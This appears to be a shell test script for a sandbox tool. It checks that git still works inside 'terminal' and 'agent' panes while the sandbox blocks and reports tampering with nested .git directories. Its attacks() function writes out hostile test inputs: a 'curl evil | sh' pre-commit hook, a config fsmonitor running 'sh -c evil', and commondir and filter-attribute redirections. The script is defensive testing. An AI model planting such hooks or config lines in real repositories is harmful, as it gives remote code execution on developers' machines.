#!/bin/sh
# The work tree's git directories, whole (issue 25, item 2): in every
# repository under a writable root, at any depth and for repositories
# made after launch, `.git` is read-only except what everyday git
# writes (backends/gitdir.c).
#
# For a server run as root and one run as uid 65534, in a native pane of
# the `terminal` profile and of `agent`, through the real server and the
# real bubblewrap:
#  - everyday git still works: commit, checkout -b, rebase, fetch from
#    a local repository, stash, gc;
#  - in a repository nested in the work tree (no mount protects it) and
#    in one the pane makes itself, the config and a hook (write,
#    truncate(2), chmod), commondir, info/attributes and a worktree's
#    commondir cannot be written or made; the host checks each file is
#    what it was (or still absent), and that the supervisor reported a
#    file-write* violation naming it.
# Against the code before the rule, commondir, info/ and worktrees/ are
# made, and those checks fail.
#
# Not tested because not done: `git worktree add` (it writes a .git
# file and worktrees/<id>/commondir, both refused; see docs/security.md).
. "$(dirname "$0")/../lib.sh"
ESCAPE_DIR=$(cd "$(dirname "$0")" && pwd)

for tool in bwrap cc git setpriv; do
	if ! command -v "$tool" >/dev/null 2>&1; then
		not_ok "$tool is installed"
		finish
	fi
done
HOST_PATH=$PATH
W=$(mktemp -d /var/tmp/sandmux-gitdirs.XXXXXX)
chmod 755 "$W"
BIN="$W/bin"
mkdir -p "$BIN"
. "$(dirname "$0")/../native-ctx.sh"
trap 'servers_kill; rm -rf "$W" "$T_DIR"' EXIT
if ! cc -O1 -o "$BIN/calls" "$ESCAPE_DIR/progs/calls.c" 2>"$W/cc.log"; then
	not_ok "calls.c compiles"
	cat "$W/cc.log"
	finish
fi
CALLS="$BIN/calls"
cat >"$BIN/run" <<'EOF'
sh "$1/$2.sh" >"$3/$2.tmp" 2>&1
echo " rc=$?" >>"$3/$2.tmp"
mv "$3/$2.tmp" "$3/$2"
EOF

hgit() { git -c safe.directory='*' -c user.name=h -c user.email=h@h "$@"; }
populate() {
	WORK="$D/work"
	A="$D/attempts"
	mkdir -p "$WORK/.r" "$A"
	for prof in terminal agent; do
		hgit init -q -b main "$WORK/repo-$prof"
		hgit -C "$WORK/repo-$prof" commit -q --allow-empty -m host
		hgit init -q -b main "$WORK/origin-$prof"
		hgit -C "$WORK/origin-$prof" commit -q --allow-empty -m origin
		N="$WORK/repo-$prof/deep/nested"
		hgit init -q -b main "$N"
		mkdir -p "$N/.git/hooks"
		printf '#!/bin/sh\necho host hook\n' >"$N/.git/hooks/pre-commit"
		chmod 755 "$N/.git/hooks/pre-commit"
	done
	[ "$WHO" = nobody ] && chown -R 65534:65534 "$D"
	chmod 755 "$A"
	chmod 700 "$D/run"
}
# The nested repository's files as the host sees them.
nested_state() {
	for f in config hooks/pre-commit; do
		cksum <"$N/.git/$f"
		stat -c '%a %s' "$N/.git/$f"
	done
	ls -A "$N/.git" "$N/.git/hooks"
}

field_is() { [ "$(pane_field "$1" "$2")" = "$3" ]; }
newest_pane() { sm ls --json | sed -n 's/.*"id":[^0-9]*\([0-9]*\).*/\1/p' | sort -n | tail -1; }
pane_in() {
	sm split -t %1 -v -l 6 --backend native --profile "$1" -c "$WORK" -e PS1='$ ' \
		-e GIT_AUTHOR_NAME=p -e GIT_AUTHOR_EMAIL=p@p -e GIT_COMMITTER_NAME=p \
		-e GIT_COMMITTER_EMAIL=p@p -- /bin/sh >/dev/null 2>&1
	p=$(newest_pane)
	wait_for 10 field_is "$p" state warm
	echo "$p"
}
attempt() {
	n="$NAME-$PROF-$1"
	cat >"$A/$n.sh"
	chmod 644 "$A/$n.sh"
	rm -f "$WORK/.r/$n"
	sm send-keys -t "%$P" "sh $BIN/run $A $n $WORK/.r" Enter
	if wait_for 60 test -f "$WORK/.r/$n"; then
		OUT=$(cat "$WORK/.r/$n")
	else
		OUT="(no result within 60 s)"
	fi
}
absent() { for f in "$@"; do [ ! -e "$f" ] && [ ! -L "$f" ] || return 1; done; }
events() { sm events --json 2>/dev/null | grep '"kind":"violation"' | grep -F "\"pane\":$P,"; }
reported() { events | grep -F '"action":"file-write*"' | grep -qF "\"target\":\"$1\""; }
out_has() { printf '%s\n' "$OUT" | grep -qxF -- "$1"; }

workflow() {
	R="$WORK/repo-$PROF"
	attempt workflow <<EOF
cd $R || exit 1
echo a >a.txt && git add a.txt && git commit -q -m a && echo "commit ok"
git checkout -q -b topic && echo b >b.txt && git add b.txt && git commit -q -m b && echo "checkout -b ok"
git checkout -q main && echo c >c.txt && git add c.txt && git commit -q -m c &&
	git checkout -q topic && git rebase -q main && echo "rebase ok"
git fetch -q $WORK/origin-$PROF main:refs/remotes/origin/main && echo "fetch ok"
echo more >>a.txt && git stash -q && git stash pop -q && echo "stash ok"
git gc -q && echo "gc ok"
EOF
	for step in commit "checkout -b" rebase fetch stash gc; do
		if out_has "$step ok"; then
			ok "$TAG: git $step works in the pane"
		else
			not_ok "$TAG: git $step works in the pane"
			printf '%s\n' "$OUT" | head -c 800 | sed 's/^/#   /'
			events | head -5 | sed 's/^/#   /'
		fi
	done
	check "$TAG: ... and the host sees the rebased topic branch" \
		sh -c "[ \"\$(git -c safe.directory='*' -C '$R' log --format=%s topic | head -3 | tr '\n' ' ')\" = 'b c a ' ]"
}

attacks() {
	N="$WORK/repo-$PROF/deep/nested"
	BEFORE=$(nested_state 2>&1)
	attempt nested <<EOF
printf '[core]\n\tfsmonitor = sh -c evil\n' >>$N/.git/config
$CALLS truncate $N/.git/config
$CALLS chmod $N/.git/config 666
echo 'curl evil | sh' >$N/.git/hooks/pre-commit
$CALLS truncate $N/.git/hooks/pre-commit
$CALLS chmod $N/.git/hooks/pre-commit 644
echo $WORK/evil >$N/.git/commondir
mkdir -p $N/.git/info; echo '* filter=evil' >$N/.git/info/attributes
mkdir -p $N/.git/worktrees/x && echo $WORK/evil >$N/.git/worktrees/x/commondir
EOF
	if [ "$(nested_state 2>&1)" = "$BEFORE" ] &&
		absent "$N/.git/commondir" "$N/.git/info/attributes" "$N/.git/worktrees"; then
		ok "$TAG: a nested repository's config, hook, commondir, info/, worktrees/ are unchanged on the host"
	else
		not_ok "$TAG: a nested repository's config, hook, commondir, info/, worktrees/ are unchanged on the host"
		printf '%s\n' "$OUT" | head -c 800 | sed 's/^/#   /'
		ls -A "$N/.git" | sed 's/^/#   /'
	fi
	for f in config hooks/pre-commit commondir info/attributes worktrees; do
		check "$TAG: ... $f reported" wait_for 3 reported "$N/.git/$f"
	done
	# a repository the pane makes itself, then its git directory
	F="$WORK/fresh-$PROF-$NAME"
	attempt fresh <<EOF
git init -q $F && echo "init ok"
echo $WORK/evil >$F/.git/commondir
mkdir $F/.git/hooks; echo 'curl evil | sh' >$F/.git/hooks/post-checkout
mkdir -p $F/.git/info && echo '* filter=evil' >$F/.git/info/attributes
EOF
	check "$TAG: git init works in the pane" out_has "init ok"
	if [ -d "$F/.git" ] && absent "$F/.git/commondir" "$F/.git/hooks" "$F/.git/info"; then
		ok "$TAG: a repository made after launch: commondir, hooks/, info/ not made"
	else
		not_ok "$TAG: a repository made after launch: commondir, hooks/, info/ not made"
		ls -A "$F/.git" 2>&1 | sed 's/^/#   /'
	fi
	check "$TAG: ... its commondir reported" wait_for 3 reported "$F/.git/commondir"
}

for who in root nobody; do
	ctx "$who" "$who"
	populate
	sm new -d -s git -x 200 -y 60 -c "$WORK" -- /bin/sh >/dev/null
	for PROF in terminal agent; do
		TAG="$NAME/$PROF"
		P=$(pane_in "$PROF")
		if ! field_is "$P" backend native; then
			not_ok "$TAG: a native pane starts ($(pane_field "$P" reason))"
			continue
		fi
		workflow
		attacks
	done
	sm kill-server >/dev/null 2>&1
done
finish
